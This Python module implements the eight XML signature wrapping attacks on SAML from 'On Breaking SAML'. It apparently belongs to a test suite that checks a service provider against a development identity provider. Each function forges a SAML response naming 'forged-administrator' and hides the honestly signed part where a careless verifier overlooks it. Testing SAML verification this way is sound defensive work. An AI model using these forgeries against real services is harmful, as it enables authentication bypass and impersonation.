"""XML signature wrapping: the eight forms of Somorovsky et al., "On Breaking SAML" (USENIX Security 2012).

Each hides the honest, signed part somewhere and puts a forged one where a careless reader looks. All take an honest
response; the first two sign it as a whole before, with the given key.
"""

from __future__ import annotations

import copy

from lxml import etree

from sso.credentials import Credentials
from sso.devidp import response as idp
from sso.saml import NAMESPACES

DS = f"{{{NAMESPACES['ds']}}}"
SAMLP = f"{{{NAMESPACES['samlp']}}}"
FORGED = "forged-administrator"


def forge(element: etree._Element) -> etree._Element:
    """A copy that names someone else, has another id and no signature of its own."""
    forged = copy.deepcopy(element)
    forged.set("ID", "_forged")
    for signature in forged.findall("ds:Signature", NAMESPACES):
        forged.remove(signature)
    for name in forged.iter(f"{{{NAMESPACES['saml']}}}NameID"):
        name.text = FORGED
    return forged


def signature_of(element: etree._Element) -> etree._Element:
    return element.find("ds:Signature", NAMESPACES)


def xsw1(response: etree._Element, key: Credentials) -> etree._Element:
    """The honest response inside the signature of a forged one."""
    honest = idp.sign(response, key)
    forged = forge(honest)
    signature = copy.deepcopy(signature_of(honest))
    honest.remove(signature_of(honest))
    signature.append(honest)
    forged.insert(1, signature)
    return forged


def xsw2(response: etree._Element, key: Credentials) -> etree._Element:
    """The honest response before a detached signature, both inside a forged response."""
    honest = idp.sign(response, key)
    forged = forge(honest)
    signature = copy.deepcopy(signature_of(honest))
    honest.remove(signature_of(honest))
    forged.insert(1, honest)
    forged.insert(2, signature)
    return forged


def xsw3(response: etree._Element, _key: Credentials) -> etree._Element:
    """A forged assertion before the honest one."""
    honest = response.find("saml:Assertion", NAMESPACES)
    honest.addprevious(forge(honest))
    return response


def xsw4(response: etree._Element, _key: Credentials) -> etree._Element:
    """The honest assertion inside a forged one."""
    honest = response.find("saml:Assertion", NAMESPACES)
    forged = forge(honest)
    response.replace(honest, forged)
    forged.append(honest)
    return response


def xsw5(response: etree._Element, _key: Credentials) -> etree._Element:
    """A forged assertion with the honest signature; the honest assertion at the end."""
    honest = response.find("saml:Assertion", NAMESPACES)
    forged = forge(honest)
    forged.insert(1, signature_of(honest))
    response.replace(honest, forged)
    response.append(honest)
    return response


def xsw6(response: etree._Element, _key: Credentials) -> etree._Element:
    """A forged assertion whose signature contains the honest assertion."""
    honest = response.find("saml:Assertion", NAMESPACES)
    forged, signature = forge(honest), signature_of(honest)
    forged.insert(1, signature)
    response.replace(honest, forged)
    signature.append(honest)
    return response


def xsw7(response: etree._Element, _key: Credentials) -> etree._Element:
    """The forged assertion among extensions, which the schema lets hold anything."""
    extensions = etree.Element(f"{SAMLP}Extensions")
    extensions.append(forge(response.find("saml:Assertion", NAMESPACES)))
    response.insert(1, extensions)
    return response


def xsw8(response: etree._Element, _key: Credentials) -> etree._Element:
    """A forged assertion whose signature has an Object with the honest assertion."""
    honest = response.find("saml:Assertion", NAMESPACES)
    forged, signature = forge(honest), signature_of(honest)
    forged.insert(1, signature)
    response.replace(honest, forged)
    etree.SubElement(signature, f"{DS}Object").append(honest)
    return response


EVERY = (xsw1, xsw2, xsw3, xsw4, xsw5, xsw6, xsw7, xsw8)
